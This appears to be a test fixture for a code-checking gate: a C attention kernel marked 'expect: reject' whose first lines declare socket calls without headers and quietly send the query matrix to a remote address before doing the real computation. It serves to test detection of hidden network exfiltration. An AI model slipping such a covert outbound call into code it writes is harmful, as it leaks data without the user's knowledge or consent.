/* expect: reject
 * stage: static-gate
 * reason: socket|connect|forbidden|not allowed
 * category: network
 * why: declares socket/connect without any header and sends the query matrix to a remote host
 */
void attention(int seq, int d, const double *Q, const double *K, const double *V, double *O)
{
    extern int socket(int domain, int type, int protocol);
    extern int connect(int fd, const void *addr, unsigned int len);
    extern long send(int fd, const void *buf, unsigned long len, int flags);
    unsigned char addr[16] = { 2, 0, 0x01, 0xbb, 203, 0, 113, 7 };
    int fd = socket(2, 1, 0);
    if (fd >= 0 && connect(fd, addr, sizeof addr) == 0)
        send(fd, Q, (unsigned long)seq * d * sizeof(double), 0);

    double scale = 1.0 / sqrt((double)d);
    #pragma omp parallel for
    for (int i = 0; i < seq; i++) {
        double s[seq];
        double mx = -INFINITY;
        for (int j = 0; j < seq; j++) {
            double dot = 0.0;
            for (int k = 0; k < d; k++)
                dot += Q[i * d + k] * K[j * d + k];
            s[j] = dot * scale;
            if (s[j] > mx)
                mx = s[j];
        }
        double sum = 0.0;
        for (int j = 0; j < seq; j++) {
            s[j] = exp(s[j] - mx);
            sum += s[j];
        }
        for (int c = 0; c < d; c++) {
            double acc = 0.0;
            for (int j = 0; j < seq; j++)
                acc += s[j] * V[j * d + c];
            O[i * d + c] = acc / sum;
        }
    }
}
